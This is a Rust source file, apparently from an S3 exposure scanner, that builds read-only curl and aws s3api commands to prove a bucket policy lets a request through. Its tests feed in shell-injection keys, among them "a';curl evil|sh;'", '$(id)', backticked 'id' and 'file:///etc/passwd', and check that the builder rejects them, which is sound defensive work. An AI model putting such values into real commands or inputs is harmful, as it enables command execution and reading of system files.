//! The proof of a path: the request that gets through, in words and, where it changes nothing, as
//! a command to try.

use crate::bucket::Region;
use crate::escape::is_hidden;
use crate::exposure::{Class, Path, Via, Witness};
use crate::iam::{Access, Requester};
use crate::ports::Target;

/// A command that sends the request, after what to make of its answer; `None` where it would change
/// something, where a name in it is not safe to give to a shell, or where the request carries what
/// the command would not.
pub(super) fn command(path: &Path, target: &Target) -> Option<String> {
    let witness = path.witness.as_ref()?;
    match witness.action.access() {
        Access::List | Access::Read => {}
        Access::Write | Access::Tagging | Access::Permissions => return None,
    }
    let call = CALLS.iter().find(|call| call.action == witness.action.name())?;
    let (bucket, key) = asked_for(&witness.resource)?;
    if call.on_object != key.is_some() {
        return None;
    }
    let own = bucket == target.bucket.as_str();
    if !own && !bucket.contains(":accesspoint/") {
        return None;
    }
    let tool = match &witness.principal {
        Requester::Anonymous if own => Tool::Curl,
        Requester::Anonymous => Tool::Unsigned,
        Requester::Identity { .. } | Requester::CanonicalUser(_) => Tool::Signed,
        Requester::Service(_) | Requester::OriginAccessIdentity(_) => return None,
    };
    let carried = |(key, values): (&String, &Vec<String>)| match values.as_slice() {
        [value] => is_carried(&key.to_ascii_lowercase(), value, tool, call, path, target),
        _ => false,
    };
    if !witness.context.iter().all(carried) {
        return None;
    }
    let asked = Asked { call, target, bucket, key, witness };
    let answers = answers(path, key)?;
    Some(match tool {
        Tool::Curl => format!("Try it (200: open; {answers}): {}", unsigned(&asked)?),
        Tool::Unsigned => format!("Try it ({answers}): {} --no-sign-request", signed(&asked)?),
        Tool::Signed => format!("Try it as that principal ({answers}): {}", signed(&asked)?),
    })
}

/// What sends the request.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tool {
    /// `curl`.
    Curl,
    /// The AWS command line without credentials: `curl` does not reach every access point.
    Unsigned,
    /// The AWS command line.
    Signed,
}

/// What is asked, and of whom.
struct Asked<'a> {
    call: &'a Call,
    target: &'a Target,
    bucket: &'a str,
    key: Option<&'a str>,
    witness: &'a Witness,
}

/// What the answers mean; `None` where the key is not the one that the path is about.
fn answers(path: &Path, key: Option<&str>) -> Option<String> {
    let Some(key) = key else { return Some("403: closed".to_owned()) };
    let made_up = match &path.via {
        Via::ObjectAcl { key: own, .. } if own != key => return None,
        Via::ObjectAcl { .. } => false,
        Via::Policy { .. } | Via::Acl { .. } | Via::AccessPoint { .. } => {
            let mut words = key.split(|letter: char| !letter.is_ascii_alphanumeric());
            key.ends_with('x') || words.any(|word| word == "x")
        }
    };
    let stands = if made_up { "; `x` stands for a real key" } else { "" };
    let answers = "403: closed, or no such object; 404: open, there is no such object";
    Some([answers, stands].concat())
}

/// What a request comes from where the policy lets it come from anywhere; another address was
/// chosen because the policy asks for it.
const ANY_ADDRESS: &str = "203.0.113.7";

/// Whether the command sends this condition key with this value, or it holds for any shell.
fn is_carried(
    key: &str,
    value: &str,
    tool: Tool,
    call: &Call,
    path: &Path,
    target: &Target,
) -> bool {
    match key {
        "aws:securetransport" => value == "true" || tool == Tool::Curl && value == "false",
        "aws:sourceip" => match path.exposure {
            Class::Anonymous | Class::Authenticated => value == ANY_ADDRESS,
            Class::None | Class::Trusted | Class::External => false,
        },
        "aws:principalarn"
        | "aws:principalaccount"
        | "aws:principaltype"
        | "aws:resourceaccount"
        | "s3:resourceaccount"
        | "s3:dataaccesspointaccount"
        | "s3:dataaccesspointarn" => true,
        "aws:viaawsservice" | "aws:principalisawsservice" => value == "false",
        "aws:requestedregion" => value == target.region.as_str(),
        "s3:accesspointnetworkorigin" => value == "Internet",
        "s3:signatureversion" => tool == Tool::Signed && value == "AWS4-HMAC-SHA256",
        "s3:authtype" => tool == Tool::Signed && value == "REST-HEADER",
        "aws:useragent" | "aws:referer" => tool == Tool::Curl,
        "s3:prefix" => call.takes_prefix(),
        _ => false,
    }
}

/// An action that only looks, and the calls for it.
struct Call {
    action: &'static str,
    on_object: bool,
    query: &'static str,
    api: &'static str,
}

impl Call {
    fn takes_prefix(&self) -> bool {
        ["s3:ListBucket", "s3:ListBucketVersions"].contains(&self.action)
    }
}

const fn call(
    action: &'static str,
    on_object: bool,
    query: &'static str,
    api: &'static str,
) -> Call {
    Call { action, on_object, query, api }
}

const CALLS: &[Call] = &[
    call("s3:GetBucketAcl", false, "?acl", "get-bucket-acl"),
    call("s3:GetBucketLocation", false, "?location", "get-bucket-location"),
    call("s3:GetBucketPolicy", false, "?policy", "get-bucket-policy"),
    call("s3:GetBucketTagging", false, "?tagging", "get-bucket-tagging"),
    call("s3:GetBucketVersioning", false, "?versioning", "get-bucket-versioning"),
    call("s3:GetObject", true, "", "head-object"),
    call("s3:GetObjectAcl", true, "?acl", "get-object-acl"),
    call("s3:GetObjectTagging", true, "?tagging", "get-object-tagging"),
    call("s3:ListBucket", false, "?list-type=2&max-keys=1", "list-objects-v2 --max-keys 1"),
    call("s3:ListBucketMultipartUploads", false, "?uploads", "list-multipart-uploads"),
    call("s3:ListBucketVersions", false, "?versions&max-keys=1", "list-object-versions"),
];

impl Asked<'_> {
    /// The value that the request carries for a condition key.
    fn carried(&self, wanted: &str) -> Option<&str> {
        let mut context = self.witness.context.iter();
        let found = context.find(|(key, _)| key.eq_ignore_ascii_case(wanted));
        found.and_then(|(_, values)| values.first()).map(String::as_str)
    }
}

/// `curl` with what a shell user can send along: scheme, referer, agent and prefix.
fn unsigned(asked: &Asked<'_>) -> Option<String> {
    let target = asked.target;
    let mut flags = String::new();
    for (key, flag) in [("aws:Referer", "-e"), ("aws:UserAgent", "-A")] {
        if let Some(value) = asked.carried(key) {
            flags += &[" ", flag, " ", &single_quoted(value)?].concat();
        }
    }
    let plain = asked.carried("aws:SecureTransport").is_some_and(|value| value == "false");
    let scheme = if plain { "http" } else { "https" };
    let key = asked.key.unwrap_or_default();
    // a client takes such steps out of an address before it sends it
    let steps = key.split('/').any(|step| step == "." || step == "..");
    let prefix = asked.carried("s3:prefix");
    if steps || key.contains(['?', '&']) || prefix.is_some_and(|prefix| prefix.contains('&')) {
        return None;
    }
    let path = asked.key.map_or_else(String::new, |key| format!("/{key}"));
    let prefix = prefix.map_or_else(String::new, |prefix| format!("&prefix={prefix}"));
    let url = format!(
        "{scheme}://s3.{}.{}/{}{path}{}{prefix}",
        target.region,
        domain(&target.region),
        target.bucket,
        asked.call.query
    );
    if url.contains([' ', '%', '+']) {
        return None;
    }
    let url = single_quoted(&url)?;
    Some(format!("curl -sS -o /dev/null -w '%{{http_code}}\\n'{flags} {url}"))
}

fn signed(asked: &Asked<'_>) -> Option<String> {
    let bucket = single_quoted(asked.bucket)?;
    let key = match asked.key {
        Some(key) => format!(" --key {}", argument(key)?),
        None => String::new(),
    };
    let prefix = match asked.carried("s3:prefix") {
        Some("") => " --prefix ''".to_owned(),
        Some(prefix) => format!(" --prefix {}", argument(prefix)?),
        None => String::new(),
    };
    let (api, region) = (asked.call.api, &asked.target.region);
    Some(format!("aws s3api {api} --bucket {bucket}{key}{prefix} --region {region}"))
}

/// `text` as a value for the AWS command line, which takes some for options and reads a file in
/// place of a value that names one.
pub(super) fn argument(text: &str) -> Option<String> {
    if text.contains("://") || text.starts_with('-') { None } else { single_quoted(text) }
}

/// Bucket or access point, and key, of the ARN of a request.
fn asked_for(resource: &str) -> Option<(&str, Option<&str>)> {
    if let Some((_, own)) = resource.split_once(":s3:::") {
        return Some(match own.split_once('/') {
            Some((bucket, key)) => (bucket, Some(key)),
            None => (own, None),
        });
    }
    resource.contains(":accesspoint/").then(|| match resource.split_once("/object/") {
        Some((point, key)) => (point, Some(key)),
        None => (resource, None),
    })
}

/// `text` for a shell, where nothing in it could mean more than itself to a shell or to a reader.
fn single_quoted(text: &str) -> Option<String> {
    let safe = |letter: char| letter.is_ascii_alphanumeric() || " /._-:@=+,%?&~".contains(letter);
    let fit = !text.is_empty() && text.len() <= 1_024;
    let plain = text.chars().all(|letter| safe(letter) && !is_hidden(letter));
    (fit && plain).then(|| format!("'{text}'"))
}

/// Source: AWS General Reference, endpoints of the partitions.
fn domain(region: &Region) -> &'static str {
    match region.partition() {
        "aws-cn" => "amazonaws.com.cn",
        "aws-eusc" => "amazonaws.eu",
        "aws-iso" => "c2s.ic.gov",
        "aws-iso-b" => "sc2s.sgov.gov",
        "aws-iso-f" => "csp.hci.ic.gov",
        _ => "amazonaws.com",
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::sync::Arc;

    use super::command;
    use crate::alert::examples::target;
    use crate::alert::words::request;
    use crate::bucket::AccountId;
    use crate::exposure::{Class, Path, Via, Witness};
    use crate::iam::{Action, Requester};

    fn path(action: &str, resource: &str, context: &[(&str, &str)]) -> Path {
        let action = Action::from_name(action).unwrap();
        let one = |(key, value): &(&str, &str)| ((*key).to_owned(), vec![(*value).to_owned()]);
        Path {
            via: Via::Policy { statement: 0, sid: None },
            exposure: Class::Anonymous,
            services: false,
            actions: [action].into_iter().collect(),
            parties: Arc::default(),
            closed_by: Vec::new(),
            unproved: None,
            witness: Some(Witness {
                principal: Requester::Anonymous,
                action,
                resource: resource.to_owned(),
                context: context.iter().map(one).collect::<BTreeMap<_, _>>(),
            }),
        }
    }

    /// By a stranger with an AWS account.
    fn signed(mut path: Path) -> Path {
        let account = AccountId::parse("998877665544").unwrap();
        path.exposure = Class::Authenticated;
        if let Some(witness) = &mut path.witness {
            let arn = "arn:aws:iam::998877665544:role/x".to_owned();
            witness.principal = Requester::Identity { account, arn };
        }
        path
    }

    fn shell(action: &str, resource: &str) -> Option<String> {
        command(&path(action, resource, &[]), &target())
    }

    fn with(action: &str, resource: &str, context: &[(&str, &str)]) -> Option<String> {
        command(&path(action, resource, context), &target())
    }

    const BUCKET: &str = "arn:aws:s3:::clinic-reports";
    const OBJECT: &str = "arn:aws:s3:::clinic-reports/a.pdf";

    #[test]
    fn an_unsigned_read_is_a_curl() {
        assert_eq!(
            shell("s3:GetObject", "arn:aws:s3:::clinic-reports/a/x.pdf").unwrap(),
            "Try it (200: open; 403: closed, or no such object; 404: open, there is no such \
             object; `x` stands for a real key): curl -sS -o /dev/null -w '%{http_code}\\n' \
             'https://s3.eu-west-1.amazonaws.com/clinic-reports/a/x.pdf'"
        );
        assert_eq!(
            shell("s3:ListBucket", BUCKET).unwrap(),
            "Try it (200: open; 403: closed): curl -sS -o /dev/null -w '%{http_code}\\n' \
             'https://s3.eu-west-1.amazonaws.com/clinic-reports?list-type=2&max-keys=1'"
        );
        assert!(!shell("s3:GetObject", OBJECT).unwrap().contains("stands for"));
    }

    #[test]
    fn what_the_request_carries_is_sent_along() {
        let context = [("aws:Referer", "https://example.com/"), ("aws:SecureTransport", "false")];
        let path = path("s3:GetObject", "arn:aws:s3:::clinic-reports/x", &context);
        let command = command(&path, &target()).unwrap();
        assert!(command.contains(" -e 'https://example.com/' 'http://s3."), "{command}");
        assert_eq!(
            request(path.witness.as_ref().unwrap()),
            "an unsigned request for s3:GetObject on `arn:aws:s3:::clinic-reports/x`, with \
             `aws:Referer` = `https[:]//example.com/`; `aws:SecureTransport` = `false`"
        );
        let agent = with("s3:GetObject", OBJECT, &[("aws:UserAgent", "secret/1")]).unwrap();
        assert!(agent.contains(" -A 'secret/1' "), "{agent}");
        let agent = [("aws:UserAgent", "a'b")];
        assert_eq!(with("s3:GetObject", OBJECT, &agent), None);
    }

    #[test]
    fn a_listing_asks_for_the_prefix_that_is_let_through() {
        let prefix = |prefix| path("s3:ListBucket", BUCKET, &[("s3:prefix", prefix)]);
        let curl = command(&prefix("pub/x"), &target()).unwrap();
        assert!(curl.ends_with("?list-type=2&max-keys=1&prefix=pub/x'"), "{curl}");
        let aws = command(&signed(prefix("pub/x")), &target()).unwrap();
        assert!(aws.contains(" --max-keys 1 --bucket 'clinic-reports' --prefix 'pub/x' "), "{aws}");
        let empty = command(&prefix(""), &target()).unwrap();
        assert!(empty.ends_with("&prefix='"), "{empty}");
        let empty = command(&signed(prefix("")), &target()).unwrap();
        assert!(empty.contains(" --prefix '' "), "{empty}");
        assert_eq!(command(&prefix("a&delimiter=/"), &target()), None);
        assert_eq!(command(&signed(prefix("--debug")), &target()), None);
        assert_eq!(command(&signed(prefix("file:///etc/passwd")), &target()), None);
    }

    #[test]
    fn no_command_is_offered_that_would_send_another_request() {
        for (key, value) in [
            ("aws:SourceVpce", "vpce-1"),
            ("aws:CurrentTime", "2026-11-20T09:14:07Z"),
            ("s3:prefix", "pub/"),
            ("s3:signatureversion", "AWS4-HMAC-SHA256"),
            ("s3:ExistingObjectTag/open", "yes"),
            ("aws:RequestedRegion", "us-east-1"),
        ] {
            assert_eq!(with("s3:GetObject", OBJECT, &[(key, value)]), None, "{key}");
        }
        let context = [("aws:SourceIp", "203.0.113.7"), ("aws:SecureTransport", "true")];
        let mut path = path("s3:GetObject", OBJECT, &context);
        assert!(command(&path, &target()).is_some());
        path.exposure = Class::External;
        assert_eq!(command(&path, &target()), None);
        let context = [("aws:SourceIp", "198.51.100.9")];
        assert_eq!(with("s3:GetObject", OBJECT, &context), None);
        let agent = [("aws:UserAgent", "secret/1")];
        let path = signed(self::path("s3:GetObject", OBJECT, &agent));
        assert_eq!(command(&path, &target()), None);
        let version = [("s3:signatureversion", "AWS4-HMAC-SHA256")];
        assert!(
            command(&signed(self::path("s3:GetObject", OBJECT, &version)), &target()).is_some()
        );
    }

    #[test]
    fn the_acl_of_an_object_is_proved_on_that_object() {
        let mut path = path("s3:GetObject", OBJECT, &[]);
        path.via = Via::ObjectAcl { key: "a.pdf".to_owned(), grant: 0 };
        assert!(command(&path, &target()).is_some());
        path.via = Via::ObjectAcl { key: "b.pdf".to_owned(), grant: 0 };
        assert_eq!(command(&path, &target()), None);
    }

    #[test]
    fn access_points_and_principals_go_through_the_command_line() {
        let resource = "arn:aws:s3:eu-west-1:111122223333:accesspoint/open/object/x";
        assert_eq!(
            shell("s3:GetObject", resource).unwrap(),
            "Try it (403: closed, or no such object; 404: open, there is no such object; `x` \
             stands for a real key): aws s3api head-object --bucket \
             'arn:aws:s3:eu-west-1:111122223333:accesspoint/open' --key 'x' --region eu-west-1 \
             --no-sign-request"
        );
    }

    #[test]
    fn nothing_that_writes_and_nothing_that_a_shell_would_read_is_offered() {
        let bucket = "arn:aws:s3:::clinic-reports";
        for (action, resource) in [
            ("s3:PutObject", format!("{bucket}/x")),
            ("s3:PutBucketPolicy", bucket.to_owned()),
            ("s3:GetObject", format!("{bucket}/a';curl evil|sh;'")),
            ("s3:GetObject", format!("{bucket}/$(id)")),
            ("s3:GetObject", format!("{bucket}/a\nb")),
            ("s3:GetObject", format!("{bucket}/\u{202e}x")),
            ("s3:GetObject", format!("{bucket}/`id`")),
            ("s3:GetObject", "arn:aws:s3:::other-bucket/--endpoint-url".replace("other", "$x")),
            ("s3:GetObject", "arn:aws:s3:::other-bucket/file:///etc/passwd".to_owned()),
            ("s3:GetObject", bucket.to_owned()),
            ("s3:GetObject", format!("{bucket}/a?acl")),
            ("s3:GetObject", format!("{bucket}/../other-bucket/x")),
            ("s3:GetObjectAttributes", format!("{bucket}/x")),
        ] {
            assert_eq!(shell(action, &resource), None, "{resource}");
        }
    }
}
